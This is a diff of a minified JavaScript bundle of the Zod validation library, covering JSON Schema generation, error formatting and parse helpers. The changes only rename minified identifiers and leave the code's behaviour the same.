+path,"properties",l]}));const c=[];for(const l of Object.keys(o)){const u=i.shape[l];(e.io==="input"?Fs(u)===void 0:u._zod.
 optout===void 0)&&c.push(l)}c.length>0&&(r.required=c),i.catchall?._zod.def.type==="never"?r.additionalProperties=!1:i.catchall?
 i.catchall&&(r.additionalProperties=et(i.catchall,e,{...s,path:[...s.path,"additionalProperties"]})):e.io==="output"&&(r.
-additionalProperties=!1)},rd=(t,e,n,s)=>{const r=t._zod.def,i=r.inclusive===!1,o=r.options.map((a,c)=>et(a,e,{...s,path:[
-...s.path,i?"oneOf":"anyOf",c]}));i?n.oneOf=o:n.anyOf=o},id=(t,e,n,s)=>{const r=t._zod.def,i=et(r.left,e,{...s,path:[...s.
+additionalProperties=!1)},sd=(t,e,n,s)=>{const r=t._zod.def,i=r.inclusive===!1,o=r.options.map((a,c)=>et(a,e,{...s,path:[
+...s.path,i?"oneOf":"anyOf",c]}));i?n.oneOf=o:n.anyOf=o},rd=(t,e,n,s)=>{const r=t._zod.def,i=et(r.left,e,{...s,path:[...s.
 path,"allOf",0]}),o=et(r.right,e,{...s,path:[...s.path,"allOf",1]}),a=l=>"allOf"in l&&Object.keys(l).length===1,c=[...a(
-i)?i.allOf:[i],...a(o)?o.allOf:[o]];n.allOf=c,e.intersections.push(c)},od=(t,e,n,s)=>{const r=n,i=t._zod.def;r.type="arr\
+i)?i.allOf:[i],...a(o)?o.allOf:[o]];n.allOf=c,e.intersections.push(c)},id=(t,e,n,s)=>{const r=n,i=t._zod.def;r.type="arr\
 ay";const o=e.target==="draft-2020-12"?"prefixItems":"items",a=e.target==="draft-2020-12"||e.target==="openapi-3.0"?"ite\
 ms":"additionalItems",c=i.items.map((m,g)=>et(m,e,{...s,path:[...s.path,o,g]})),l=i.rest?et(i.rest,e,{...s,path:[...s.path,
 a,...e.target==="openapi-3.0"?[i.items.length]:[]]}):null;let u=i.items.length;for(;u>0;){const m=i.items[u-1];if(!(e.io===
-"input"?Ls(m)!==void 0:m._zod.optout==="optional"))break;u--}const d=i.items.length,B=!i.rest;e.target==="draft-2020-12"?
+"input"?Fs(m)!==void 0:m._zod.optout==="optional"))break;u--}const d=i.items.length,B=!i.rest;e.target==="draft-2020-12"?
 (r.prefixItems=c,B?r.items=!1:l&&(r.items=l),u>0&&(r.minItems=u),B&&(r.maxItems=d)):e.target==="openapi-3.0"?(r.items={anyOf:c},
 l&&r.items.anyOf.push(l),u>0&&(r.minItems=u),B&&(r.maxItems=d)):(r.items=c,B?r.additionalItems=!1:l&&(r.additionalItems=
 l),u>0&&(r.minItems=u),B&&(r.maxItems=d));const{minimum:f,maximum:h}=ct(t);typeof f=="number"&&(r.minItems=f),typeof h==
@@ -2634,37 +2634,37 @@ map(C=>$o(t,C,n));g.some((C,y)=>C!==m[y])&&(e={...e,[h]:g})}const s=Array.isArra
 "string")&&s.some(h=>h==="number"||h==="integer"),i=e.enum??(e.const!==void 0?[e.const]:void 0);if(!r&&!i?.some(h=>typeof h==
 "number"))return e;const{minimum:o,maximum:a,exclusiveMinimum:c,exclusiveMaximum:l,multipleOf:u,format:d,id:B,...f}=e;return f.
 enum?f.enum=f.enum.map(h=>typeof h=="number"?String(h):h):typeof f.const=="number"&&(f.const=String(f.const)),r&&(f.type=
-"string",i||(f.pattern=(s.includes("number")?Do:Sw).source)),f}const Ro=new WeakMap;function bE(t){const e=new Map;for(const s of t.
-seen.values())s.def&&!e.has(s.schema)&&e.set(s.schema,s);const n=new Map;for(const s of Ro.get(t)??[]){const r=t.seen.get(
+"string",i||(f.pattern=(s.includes("number")?Do:Ow).source)),f}const No=new WeakMap;function yE(t){const e=new Map;for(const s of t.
+seen.values())s.def&&!e.has(s.schema)&&e.set(s.schema,s);const n=new Map;for(const s of No.get(t)??[]){const r=t.seen.get(
 s),i=(r?.def??r?.schema)?.propertyNames;if(!i||i===!0||n.has(i))continue;const o=$o(e,i,new Set);o!==i&&n.set(i,o)}if(n.
 size)for(const s of t.seen.values())for(const r of[s.schema,s.def]){const i=r&&n.get(r.propertyNames);i&&(r.propertyNames=
-i)}}const ad=(t,e,n,s)=>{const r=n,i=t._zod.def;r.type="object";const o=i.keyType,a=ct(o).patterns;if(i.mode==="loose"&&
+i)}}const od=(t,e,n,s)=>{const r=n,i=t._zod.def;r.type="object";const o=i.keyType,a=ct(o).patterns;if(i.mode==="loose"&&
 a&&a.size>0){const u=et(i.valueType,e,{...s,path:[...s.path,"patternProperties","*"]});r.patternProperties={};for(const d of a)
-gn(r.patternProperties,Ul(d).source,u)}else{if(e.target==="draft-07"||e.target==="draft-2020-12"){r.propertyNames=et(i.keyType,
-e,{...s,path:[...s.path,"propertyNames"]});let u=Ro.get(e);u||(u=[],Ro.set(e,u),e.deferred.push(()=>bE(e))),u.push(t)}r.
+gn(r.patternProperties,zl(d).source,u)}else{if(e.target==="draft-07"||e.target==="draft-2020-12"){r.propertyNames=et(i.keyType,
+e,{...s,path:[...s.path,"propertyNames"]});let u=No.get(e);u||(u=[],No.set(e,u),e.deferred.push(()=>yE(e))),u.push(t)}r.
 additionalProperties=et(i.valueType,e,{...s,path:[...s.path,"additionalProperties"]})}const c=o._zod.values,l=e.io==="in\
-put"&&Ls(i.valueType)!==void 0;if(c&&!i.partial&&!l){const u=[...c].filter(d=>typeof d=="string"||typeof d=="number");u.
-length>0&&(r.required=u.map(String))}},cd=(t,e,n,s)=>{const r=t._zod.def,i=et(r.innerType,e,s),o=e.seen.get(t);e.target===
-"openapi-3.0"?(o.ref=r.innerType,n.nullable=!0):n.anyOf=[i,{type:"null"}]},ud=(t,e,n,s)=>{const r=t._zod.def;et(r.innerType,
-e,s);const i=e.seen.get(t);i.ref=r.innerType},No=Symbol();function ld(t,e,n,s,r){let i=!1;const o=JSON.stringify(t,(a,c)=>typeof c!=
-"bigint"?c:(i=!0,null));return i?(ht(e,n,s,r,"BigInt defaults cannot be represented in JSON Schema"),No):JSON.parse(o)}const dd=(t,e,n,s)=>{
-const r=t._zod.def;et(r.innerType,e,s);const i=e.seen.get(t);i.ref=r.innerType;const o=ld(r.defaultValue,t,e,n,s);o!==No&&
-(n.default=o)},Bd=(t,e,n,s)=>{const r=t._zod.def;et(r.innerType,e,s);const i=e.seen.get(t);if(i.ref=r.innerType,e.io!=="\
-input")return;const o=ld(r.defaultValue,t,e,n,s);o!==No&&(n._prefault=o)},fd=(t,e,n,s)=>{const r=t._zod.def;et(r.innerType,
+put"&&Fs(i.valueType)!==void 0;if(c&&!i.partial&&!l){const u=[...c].filter(d=>typeof d=="string"||typeof d=="number");u.
+length>0&&(r.required=u.map(String))}},ad=(t,e,n,s)=>{const r=t._zod.def,i=et(r.innerType,e,s),o=e.seen.get(t);e.target===
+"openapi-3.0"?(o.ref=r.innerType,n.nullable=!0):n.anyOf=[i,{type:"null"}]},cd=(t,e,n,s)=>{const r=t._zod.def;et(r.innerType,
+e,s);const i=e.seen.get(t);i.ref=r.innerType},Ro=Symbol();function ud(t,e,n,s,r){let i=!1;const o=JSON.stringify(t,(a,c)=>typeof c!=
+"bigint"?c:(i=!0,null));return i?(ht(e,n,s,r,"BigInt defaults cannot be represented in JSON Schema"),Ro):JSON.parse(o)}const ld=(t,e,n,s)=>{
+const r=t._zod.def;et(r.innerType,e,s);const i=e.seen.get(t);i.ref=r.innerType;const o=ud(r.defaultValue,t,e,n,s);o!==Ro&&
+(n.default=o)},dd=(t,e,n,s)=>{const r=t._zod.def;et(r.innerType,e,s);const i=e.seen.get(t);if(i.ref=r.innerType,e.io!=="\
+input")return;const o=ud(r.defaultValue,t,e,n,s);o!==Ro&&(n._prefault=o)},Bd=(t,e,n,s)=>{const r=t._zod.def;et(r.innerType,
 e,s);const i=e.seen.get(t);i.ref=r.innerType;let o;try{o=r.catchValue(void 0)}catch{ht(t,e,n,s,"Dynamic catch values are\
- not supported in JSON Schema");return}n.default=o},hd=(t,e,n,s)=>{const r=t._zod.def,i=r.in._zod.traits.has("$ZodTransf\
-orm"),o=e.io==="input"?i?r.out:r.in:r.out;et(o,e,s);const a=e.seen.get(t);a.ref=o},pd=(t,e,n,s)=>{const r=t._zod.def;et(
-r.innerType,e,s);const i=e.seen.get(t);i.ref=r.innerType,n.readOnly=!0},_E=(t,e,n,s)=>{const r=t._zod.def;et(r.innerType,
+ not supported in JSON Schema");return}n.default=o},fd=(t,e,n,s)=>{const r=t._zod.def,i=r.in._zod.traits.has("$ZodTransf\
+orm"),o=e.io==="input"?i?r.out:r.in:r.out;et(o,e,s);const a=e.seen.get(t);a.ref=o},hd=(t,e,n,s)=>{const r=t._zod.def;et(
+r.innerType,e,s);const i=e.seen.get(t);i.ref=r.innerType,n.readOnly=!0},wE=(t,e,n,s)=>{const r=t._zod.def;et(r.innerType,
 e,s);const i=e.seen.get(t);i.ref=r.innerType},Fo=(t,e,n,s)=>{const r=t._zod.def;et(r.innerType,e,s);const i=e.seen.get(t);
-i.ref=r.innerType},EE=(t,e,n,s)=>{const r=t._zod.innerType;et(r,e,s);const i=e.seen.get(t);i.ref=r},md={string:Jl,number:Zl,
-boolean:Kl,bigint:Wl,symbol:uE,null:lE,undefined:dE,void:BE,never:ql,any:fE,unknown:Vl,date:Yl,enum:Xl,literal:Ql,nan:hE,
-template_literal:pE,file:mE,success:gE,custom:ed,function:CE,transform:td,map:yE,set:wE,array:nd,object:sd,union:rd,intersection:id,
-tuple:od,record:ad,nullable:cd,nonoptional:ud,default:dd,prefault:Bd,catch:fd,pipe:hd,readonly:pd,promise:_E,optional:Fo,
-lazy:EE};function XG(t,e){if("_idmap"in t){const s=t,r=initializeContext({...e,processors:md}),i={};for(const c of s._idmap.
+i.ref=r.innerType},bE=(t,e,n,s)=>{const r=t._zod.innerType;et(r,e,s);const i=e.seen.get(t);i.ref=r},pd={string:Ul,number:Jl,
+boolean:Zl,bigint:Kl,symbol:aE,null:cE,undefined:uE,void:lE,never:Wl,any:dE,unknown:ql,date:Vl,enum:Yl,literal:Xl,nan:BE,
+template_literal:fE,file:hE,success:pE,custom:Ql,function:mE,transform:ed,map:gE,set:CE,array:td,object:nd,union:sd,intersection:rd,
+tuple:id,record:od,nullable:ad,nonoptional:cd,default:ld,prefault:dd,catch:Bd,pipe:fd,readonly:hd,promise:wE,optional:Fo,
+lazy:bE};function zG(t,e){if("_idmap"in t){const s=t,r=initializeContext({...e,processors:pd}),i={};for(const c of s._idmap.
 entries()){const[l,u]=c;processSchema(u,r)}const o={},a={registry:s,uri:e?.uri,defs:i};r.external=a;for(const c of s._idmap.
 entries()){const[l,u]=c;extractDefs(r,u),assignProp(o,l,finalize(r,u))}if(Object.keys(i).length>0){const c=r.target==="d\
-raft-2020-12"?"$defs":"definitions";o.__shared={[c]:i}}return{schemas:o}}const n=initializeContext({...e,processors:md});
-return processSchema(t,n),extractDefs(n,t),finalize(n,t)}const kE=()=>{const t={string:{unit:"characters",verb:"to have"},
+raft-2020-12"?"$defs":"definitions";o.__shared={[c]:i}}return{schemas:o}}const n=initializeContext({...e,processors:pd});
+return processSchema(t,n),extractDefs(n,t),finalize(n,t)}const _E=()=>{const t={string:{unit:"characters",verb:"to have"},
 file:{unit:"bytes",verb:"to have"},array:{unit:"items",verb:"to have"},set:{unit:"items",verb:"to have"},map:{unit:"entr\
 ies",verb:"to have"}};function e(i){return t[i]??null}const n={regex:"input",email:"email address",url:"URL",emoji:"emoj\
 i",uuid:"UUID",uuidv4:"UUIDv4",uuidv6:"UUIDv6",nanoid:"nanoid",guid:"GUID",cuid:"cuid",cuid2:"cuid2",ulid:"ULID",xid:"XI\
@@ -2672,9 +2672,9 @@ D",ksuid:"KSUID",datetime:"ISO datetime",date:"ISO date",time:"ISO time",duratio
 IPv6 address",mac:"MAC address",cidrv4:"IPv4 range",cidrv6:"IPv6 range",base64:"base64-encoded string",base64url:"base64\
 url-encoded string",json_string:"JSON string",e164:"E.164 number",currency_code:"currency code",credit_card:"credit card\
  number",iban:"IBAN",jwt:"JWT",template_literal:"input"},s={nan:"NaN"};function r(i,o){return i==="number"&&typeof o=="n\
-umber"&&!Number.isFinite(o)?String(o):s[i]??i}return i=>{switch(i.code){case"invalid_type":{const o=r(i.expected),a=Gy(i.
+umber"&&!Number.isFinite(o)?String(o):s[i]??i}return i=>{switch(i.code){case"invalid_type":{const o=r(i.expected),a=jy(i.
 input),c=r(a,i.input);return`Invalid input: expected ${o}, received ${c}`}case"invalid_value":return i.values.length===1?
-`Invalid input: expected ${Lu(i.values[0])}`:`Invalid option: expected one of ${Su(i.values,"|")}`;case"too_big":{const o=i.
+`Invalid input: expected ${Fu(i.values[0])}`:`Invalid option: expected one of ${Au(i.values,"|")}`;case"too_big":{const o=i.
 exact?"exactly ":i.inclusive?"<=":"<",a=e(i.origin);return a?`Too big: expected ${i.origin??"value"} to have ${o}${i.maximum.
 toString()} ${a.unit??"elements"}`:`Too big: expected ${i.origin??"value"} to be ${o}${i.maximum.toString()}`}case"too_s\
 mall":{const o=i.exact?"exactly ":i.inclusive?">=":">",a=e(i.origin);return a?`Too small: expected ${i.origin} to have ${o}${i.
@@ -2683,333 +2683,333 @@ const o=i;return o.format==="starts_with"?`Invalid string: must start with "${o.
 d string: must end with "${o.suffix}"`:o.format==="includes"?`Invalid string: must include "${o.includes}"`:o.format==="\
 regex"?`Invalid string: must match pattern ${o.pattern}`:`Invalid ${n[o.format]??i.format}`}case"not_multiple_of":return`\
 Invalid number: must be a multiple of ${i.divisor}`;case"unrecognized_keys":return`Unrecognized key${i.keys.length>1?"s":
-""}: ${Su(i.keys,", ")}`;case"invalid_key":return`Invalid key in ${i.origin}`;case"invalid_union":return i.options&&Array.
+""}: ${Au(i.keys,", ")}`;case"invalid_key":return`Invalid key in ${i.origin}`;case"invalid_union":return i.options&&Array.
 isArray(i.options)&&i.options.length>0?`Invalid discriminator value. Expected ${i.options.map(a=>`'${a}'`).join(" | ")}`:
 i.inclusive===!1?"Invalid input: more than one option matched":"Invalid input";case"invalid_element":return`Invalid valu\
-e in ${i.origin}`;default:return"Invalid input"}}};function vE(){return{localeError:kE()}}function DE(){const t=this._zod;
-return t.message??(t.message=JSON.stringify(t.def,ho,2)),t.message}function xE(t){this._zod.message=t}const OE={get:DE,set:xE,
-enumerable:!0,configurable:!0},Lo={value:void 0,enumerable:!1},gd=new WeakSet([Object.prototype,Error.prototype]),Cd=(t,e)=>{
-t.name="$ZodError",Lo.value=e,Object.defineProperty(t,"issues",Lo),Lo.value=void 0,Object.defineProperty(t,"message",OE);
-const n=Object.getPrototypeOf(t);gd.has(n)||(gd.add(n),Object.defineProperty(n,"toString",{configurable:!0,enumerable:!1,
+e in ${i.origin}`;default:return"Invalid input"}}};function EE(){return{localeError:_E()}}function kE(){const t=this._zod;
+return t.message??(t.message=JSON.stringify(t.def,ho,2)),t.message}function vE(t){this._zod.message=t}const DE={get:kE,set:vE,
+enumerable:!0,configurable:!0},Lo={value:void 0,enumerable:!1},md=new WeakSet([Object.prototype,Error.prototype]),gd=(t,e)=>{
+t.name="$ZodError",Lo.value=e,Object.defineProperty(t,"issues",Lo),Lo.value=void 0,Object.defineProperty(t,"message",DE);
+const n=Object.getPrototypeOf(t);md.has(n)||(md.add(n),Object.defineProperty(n,"toString",{configurable:!0,enumerable:!1,
 get(){const s=()=>this.message;return Object.defineProperty(this,"toString",{value:s,configurable:!0,writable:!0}),s},set(s){
-Object.defineProperty(this,"toString",{value:s,configurable:!0,writable:!0})}}))},AE=N("$ZodError",Cd),Lt=N("$ZodError",
-Cd,void 0,{Parent:Error});function SE(t,e,n){return Object.prototype.hasOwnProperty.call(t,e)||(e==="__proto__"?Object.defineProperty(
-t,e,{value:n(),writable:!0,enumerable:!0,configurable:!0}):t[e]=n()),t[e]}function TE(t,e=n=>n.message){const n={},s=[];
-for(const r of t.issues)r.path.length>0?SE(n,r.path[0],()=>[]).push(e(r)):s.push(e(r));return{formErrors:s,fieldErrors:n}}
-function IE(t,e=n=>n.message){const n={_errors:[]},s=(r,i=[])=>{for(const o of r.issues)if(o.code==="invalid_union"&&o.errors.
+Object.defineProperty(this,"toString",{value:s,configurable:!0,writable:!0})}}))},xE=R("$ZodError",gd),Lt=R("$ZodError",
+gd,void 0,{Parent:Error});function OE(t,e,n){return Object.prototype.hasOwnProperty.call(t,e)||(e==="__proto__"?Object.defineProperty(
+t,e,{value:n(),writable:!0,enumerable:!0,configurable:!0}):t[e]=n()),t[e]}function AE(t,e=n=>n.message){const n={},s=[];
+for(const r of t.issues)r.path.length>0?OE(n,r.path[0],()=>[]).push(e(r)):s.push(e(r));return{formErrors:s,fieldErrors:n}}
+function SE(t,e=n=>n.message){const n={_errors:[]},s=(r,i=[])=>{for(const o of r.issues)if(o.code==="invalid_union"&&o.errors.
 length)o.errors.map(a=>s({issues:a},[...i,...o.path]));else if(o.code==="invalid_key")s({issues:o.issues},[...i,...o.path]);else if(o.
 code==="invalid_element")s({issues:o.issues},[...i,...o.path]);else{const a=[...i,...o.path];if(a.length===0)n._errors.push(
 e(o));else{let c=n,l=0;for(;l<a.length;){const u=a[l],d=l===a.length-1;if(u==="_errors"){d&&c._errors.push(e(o)),l++;continue}
 Object.prototype.hasOwnProperty.call(c,u)||Object.defineProperty(c,u,{value:{_errors:[]},enumerable:!0,writable:!0,configurable:!0});
-const B=c[u];d&&B._errors.push(e(o)),c=B,l++}}}};return s(t),n}function QG(t,e=n=>n.message){const n={errors:[]},s=(r,i=[])=>{
+const B=c[u];d&&B._errors.push(e(o)),c=B,l++}}}};return s(t),n}function UG(t,e=n=>n.message){const n={errors:[]},s=(r,i=[])=>{
 var o;for(const a of r.issues)if(a.code==="invalid_union"&&a.errors.length)a.errors.map(c=>s({issues:c},[...i,...a.path]));else if(a.
 code==="invalid_key")s({issues:a.issues},[...i,...a.path]);else if(a.code==="invalid_element")s({issues:a.issues},[...i,
 ...a.path]);else{const c=[...i,...a.path];if(c.length===0){n.errors.push(e(a));continue}let l=n,u=0;for(;u<c.length;){const d=c[u],
 B=u===c.length-1;typeof d=="string"?(l.properties??(l.properties={}),Object.prototype.hasOwnProperty.call(l.properties,d)||
 Object.defineProperty(l.properties,d,{value:{errors:[]},enumerable:!0,writable:!0,configurable:!0}),l=l.properties[d]):(l.
-items??(l.items=[]),(o=l.items)[d]??(o[d]={errors:[]}),l=l.items[d]),B&&l.errors.push(e(a)),u++}}};return s(t),n}function $E(t){
+items??(l.items=[]),(o=l.items)[d]??(o[d]={errors:[]}),l=l.items[d]),B&&l.errors.push(e(a)),u++}}};return s(t),n}function TE(t){
 const e=[],n=t.map(s=>typeof s=="object"?s.key:s);for(const s of n)typeof s=="number"?e.push(`[${s}]`):typeof s=="symbol"?
 e.push(`[${JSON.stringify(String(s))}]`):/[^\w$]/.test(s)?e.push(`[${JSON.stringify(s)}]`):(e.length&&e.push("."),e.push(
-s));return e.join("")}function eH(t){const e=[],n=[...t.issues].sort((s,r)=>(s.path??[]).length-(r.path??[]).length);for(const s of n)
-e.push(`\u2716 ${s.message}`),s.path?.length&&e.push(`  \u2192 at ${$E(s.path)}`);return e.join(`
-`)}function Sr(t,e){return{callee:e?.callee??t,Err:e?.Err}}const Tr=t=>{const e=(n,s,r,i)=>{const o=r?{...r,async:!1}:{async:!1},
-a=n._zod.run({value:s,issues:[]},o);if(a instanceof Promise)throw new Nn;if(a.issues.length){const c=new(i?.Err??t)(a.issues.
-map(l=>yn(l,o,Vt())));throw Nu(c,i?.callee??e),c}return a.value};return e},tH=Tr(Lt),Ir=t=>{const e=async(n,s,r,i)=>{const o=r?
+s));return e.join("")}function JG(t){const e=[],n=[...t.issues].sort((s,r)=>(s.path??[]).length-(r.path??[]).length);for(const s of n)
+e.push(`\u2716 ${s.message}`),s.path?.length&&e.push(`  \u2192 at ${TE(s.path)}`);return e.join(`
+`)}function Or(t,e){return{callee:e?.callee??t,Err:e?.Err}}const Ar=t=>{const e=(n,s,r,i)=>{const o=r?{...r,async:!1}:{async:!1},
+a=n._zod.run({value:s,issues:[]},o);if(a instanceof Promise)throw new Rn;if(a.issues.length){const c=new(i?.Err??t)(a.issues.
+map(l=>yn(l,o,Vt())));throw Nu(c,i?.callee??e),c}return a.value};return e},ZG=Ar(Lt),Sr=t=>{const e=async(n,s,r,i)=>{const o=r?
 {...r,async:!0}:{async:!0};let a=n._zod.run({value:s,issues:[]},o);if(a instanceof Promise&&(a=await a),a.issues.length){
-const c=new(i?.Err??t)(a.issues.map(l=>yn(l,o,Vt())));throw Nu(c,i?.callee??e),c}return a.value};return e},nH=Ir(Lt),$r=t=>(e,n,s)=>{
-const r=s?{...s,async:!1}:{async:!1},i=e._zod.run({value:n,issues:[]},r);if(i instanceof Promise)throw new Nn;return i.issues.
-length?yd(t,i.issues,r):{success:!0,data:i.value}},sH=$r(Lt);function yd(t,e,n){let s;return{success:!1,get error(){return s||
-(s=new t(e.map(r=>yn(r,n,Vt()))),e=void 0,n=void 0),s},set error(r){s=r,e=void 0,n=void 0}}}const Rr=t=>async(e,n,s)=>{const r=s?
+const c=new(i?.Err??t)(a.issues.map(l=>yn(l,o,Vt())));throw Nu(c,i?.callee??e),c}return a.value};return e},KG=Sr(Lt),Tr=t=>(e,n,s)=>{
+const r=s?{...s,async:!1}:{async:!1},i=e._zod.run({value:n,issues:[]},r);if(i instanceof Promise)throw new Rn;return i.issues.
+length?Cd(t,i.issues,r):{success:!0,data:i.value}},WG=Tr(Lt);function Cd(t,e,n){let s;return{success:!1,get error(){return s||
+(s=new t(e.map(r=>yn(r,n,Vt()))),e=void 0,n=void 0),s},set error(r){s=r,e=void 0,n=void 0}}}const Ir=t=>async(e,n,s)=>{const r=s?
 {...s,async:!0}:{async:!0};let i=e._zod.run({value:n,issues:[]},r);return i instanceof Promise&&(i=await i),i.issues.length?
-yd(t,i.issues,r):{success:!0,data:i.value}},rH=Rr(Lt),RE=Symbol.for("zod.compile.invalid"),NE=Symbol.for("zod.compile.fa\
-llback"),FE=((t,e,n)=>{const s=t._zod.bag.validator;if(s!==void 0){if(s(e)!==RE)return!0;if(s.definite===!0&&n===void 0)
-return!1}return LE(t,e,n)});function LE(t,e,n){const s=n?{...n,async:!1,abortEarly:!0}:{async:!1,abortEarly:!0},r=t._zod.
-bag.fallbackRun;let i;if(r?(s[NE]=!0,i=r({value:e,issues:[]},s)):i=t._zod.run({value:e,issues:[]},s),i instanceof Promise)
-throw new Nn;return i.issues.length===0}const PE=async(t,e,n)=>{const s=n?{...n,async:!0,abortEarly:!0}:{async:!0,abortEarly:!0};
-let r=t._zod.run({value:e,issues:[]},s);return r instanceof Promise&&(r=await r),r.issues.length===0},wd=t=>{const e=Tr(
-t),n=(s,r,i,o)=>{const a=i?{...i,direction:"backward"}:{direction:"backward"};return e(s,r,a,Sr(n,o))};return n},iH=wd(Lt),
-bd=t=>{const e=Tr(t),n=(s,r,i,o)=>e(s,r,i,Sr(n,o));return n},oH=bd(Lt),_d=t=>{const e=Ir(t),n=async(s,r,i,o)=>{const a=i?
-{...i,direction:"backward"}:{direction:"backward"};return await e(s,r,a,Sr(n,o))};return n},aH=_d(Lt),Ed=t=>{const e=Ir(
-t),n=async(s,r,i,o)=>await e(s,r,i,Sr(n,o));return n},cH=Ed(Lt),kd=t=>(e,n,s)=>{const r=s?{...s,direction:"backward"}:{direction:"\
-backward"};return $r(t)(e,n,r)},uH=kd(Lt),vd=t=>(e,n,s)=>$r(t)(e,n,s),lH=vd(Lt),Dd=t=>async(e,n,s)=>{const r=s?{...s,direction:"\
-backward"}:{direction:"backward"};return Rr(t)(e,n,r)},dH=Dd(Lt),xd=t=>async(e,n,s)=>Rr(t)(e,n,s),BH=xd(Lt),Od=new WeakSet(
-[Object.prototype,Error.prototype]);function Nr(t,e,n){Object.defineProperty(t,e,{configurable:!0,enumerable:!1,get(){const s=n(
+Cd(t,i.issues,r):{success:!0,data:i.value}},qG=Ir(Lt),IE=Symbol.for("zod.compile.invalid"),$E=Symbol.for("zod.compile.fa\
+llback"),NE=((t,e,n)=>{const s=t._zod.bag.validator;if(s!==void 0){if(s(e)!==IE)return!0;if(s.definite===!0&&n===void 0)
+return!1}return RE(t,e,n)});function RE(t,e,n){const s=n?{...n,async:!1,abortEarly:!0}:{async:!1,abortEarly:!0},r=t._zod.
+bag.fallbackRun;let i;if(r?(s[$E]=!0,i=r({value:e,issues:[]},s)):i=t._zod.run({value:e,issues:[]},s),i instanceof Promise)
+throw new Rn;return i.issues.length===0}const FE=async(t,e,n)=>{const s=n?{...n,async:!0,abortEarly:!0}:{async:!0,abortEarly:!0};
+let r=t._zod.run({value:e,issues:[]},s);return r instanceof Promise&&(r=await r),r.issues.length===0},yd=t=>{const e=Ar(
+t),n=(s,r,i,o)=>{const a=i?{...i,direction:"backward"}:{direction:"backward"};return e(s,r,a,Or(n,o))};return n},VG=yd(Lt),
+wd=t=>{const e=Ar(t),n=(s,r,i,o)=>e(s,r,i,Or(n,o));return n},YG=wd(Lt),bd=t=>{const e=Sr(t),n=async(s,r,i,o)=>{const a=i?
+{...i,direction:"backward"}:{direction:"backward"};return await e(s,r,a,Or(n,o))};return n},XG=bd(Lt),_d=t=>{const e=Sr(
+t),n=async(s,r,i,o)=>await e(s,r,i,Or(n,o));return n},QG=_d(Lt),Ed=t=>(e,n,s)=>{const r=s?{...s,direction:"backward"}:{direction:"\
+backward"};return Tr(t)(e,n,r)},eH=Ed(Lt),kd=t=>(e,n,s)=>Tr(t)(e,n,s),tH=kd(Lt),vd=t=>async(e,n,s)=>{const r=s?{...s,direction:"\
+backward"}:{direction:"backward"};return Ir(t)(e,n,r)},nH=vd(Lt),Dd=t=>async(e,n,s)=>Ir(t)(e,n,s),sH=Dd(Lt),xd=new WeakSet(
+[Object.prototype,Error.prototype]);function $r(t,e,n){Object.defineProperty(t,e,{configurable:!0,enumerable:!1,get(){const s=n(
 this);return Object.defineProperty(this,e,{value:s,configurable:!0,writable:!0}),s},set(s){Object.defineProperty(this,e,
-{value:s,configurable:!0,writable:!0})}})}const jE=(t,e)=>{AE.init(t,e),t.name="ZodError";const n=Object.getPrototypeOf(
-t);Od.has(n)||(Od.add(n),Nr(n,"format",s=>r=>IE(s,r)),Nr(n,"flatten",s=>r=>TE(s,r)),Nr(n,"addIssue",s=>r=>{s.issues.push(
-r),s.message=JSON.stringify(s.issues,ho,2)}),Nr(n,"addIssues",s=>r=>{s.issues.push(...r),s.message=JSON.stringify(s.issues,
-ho,2)}),Object.defineProperty(n,"isEmpty",{configurable:!0,enumerable:!1,get(){return this.issues.length===0}}))},fH=null,
-Pt=N("ZodError",jE,void 0,{Parent:Error}),ME=Tr(Pt),GE=Ir(Pt),HE=$r(Pt),zE=Rr(Pt),UE=wd(Pt),JE=bd(Pt),ZE=_d(Pt),KE=Ed(Pt),
-WE=kd(Pt),qE=vd(Pt),VE=Dd(Pt),YE=xd(Pt);function XE(){Ft.localeError||Vt(vE())}function Ps(){Ft.memoizer||Vt({memoizer:nw()})}
-const We=N("ZodType",(t,e)=>(XE(),Ke.init(t,e),t.def=e,t.type=e.type,t),{check(...t){const e=this.def;return this.clone(
+{value:s,configurable:!0,writable:!0})}})}const LE=(t,e)=>{xE.init(t,e),t.name="ZodError";const n=Object.getPrototypeOf(
+t);xd.has(n)||(xd.add(n),$r(n,"format",s=>r=>SE(s,r)),$r(n,"flatten",s=>r=>AE(s,r)),$r(n,"addIssue",s=>r=>{s.issues.push(
+r),s.message=JSON.stringify(s.issues,ho,2)}),$r(n,"addIssues",s=>r=>{s.issues.push(...r),s.message=JSON.stringify(s.issues,
+ho,2)}),Object.defineProperty(n,"isEmpty",{configurable:!0,enumerable:!1,get(){return this.issues.length===0}}))},rH=null,
+Pt=R("ZodError",LE,void 0,{Parent:Error}),PE=Ar(Pt),jE=Sr(Pt),ME=Tr(Pt),GE=Ir(Pt),HE=yd(Pt),zE=wd(Pt),UE=bd(Pt),JE=_d(Pt),
+ZE=Ed(Pt),KE=kd(Pt),WE=vd(Pt),qE=Dd(Pt);function VE(){Ft.localeError||Vt(EE())}function Ls(){Ft.memoizer||Vt({memoizer:ew()})}
+const We=R("ZodType",(t,e)=>(VE(),Ke.init(t,e),t.def=e,t.type=e.type,t),{check(...t){const e=this.def;return this.clone(
 Dt(e,{checks:[...e.checks??[],...t.map(n=>typeof n=="function"?{_zod:{check:n,def:{check:"custom"},onattach:[]}}:n)]}),{
 parent:!0})},with(...t){return this.check(...t)},clone(t,e){return Cn(this,t,e)},brand(){return this},register(t,e){return t.
-add(this,e),this},refine(t,e){return this.check(Wk(t,e))},superRefine(t,e){return this.check(qk(t,e))},overwrite(t){return this.
-check(cs(t))},optional(){return Ho(this)},exactOptional(){return Ok(this)},nullable(){return zo(this)},nullish(){return Ho(
-zo(this))},nonoptional(t){return Rk(this,t)},array(){return Se(this)},or(t){return Qd([this,t])},and(t){return wk(this,t)},
-transform(t){return sB(this,eB(t))},default(t){return Tk(this,t)},prefault(t){return $k(this,t)},catch(t){return Lk(this,
-t)},pipe(t){return sB(this,t)},readonly(){return Hk(this)},describe(t){const e=this.clone();return on.add(e,{description:t}),
+add(this,e),this},refine(t,e){return this.check(Zk(t,e))},superRefine(t,e){return this.check(Kk(t,e))},overwrite(t){return this.
+check(cs(t))},optional(){return Ho(this)},exactOptional(){return Dk(this)},nullable(){return zo(this)},nullish(){return Ho(
+zo(this))},nonoptional(t){return Ik(this,t)},array(){return Se(this)},or(t){return Xd([this,t])},and(t){return Ck(this,t)},
+transform(t){return nB(this,Qd(t))},default(t){return Ak(this,t)},prefault(t){return Tk(this,t)},catch(t){return Rk(this,
+t)},pipe(t){return nB(this,t)},readonly(){return Mk(this)},describe(t){const e=this.clone();return on.add(e,{description:t}),
